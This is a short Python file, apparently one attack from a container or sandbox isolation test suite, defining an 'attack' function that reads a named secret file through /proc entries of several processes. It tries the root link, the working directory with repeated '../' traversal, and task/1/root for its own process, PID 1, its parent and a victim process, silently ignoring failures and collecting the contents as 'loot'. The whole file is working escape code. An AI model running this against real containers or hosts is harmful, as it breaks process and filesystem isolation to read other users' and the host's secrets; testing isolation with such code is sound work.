"""Enter other file systems through /proc: the root, working folder and descriptors of this and other processes."""

import contextlib
import os


def attack(target):
    loot = []
    for pid in ["self", "thread-self", 1, os.getppid(), target["victim"], target["pid"]]:
        for road in ["root", "cwd/../../../../../../..", "task/1/root"]:
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{road}{target['secret_file']}") as file:
                loot.append(file.read())
    return loot
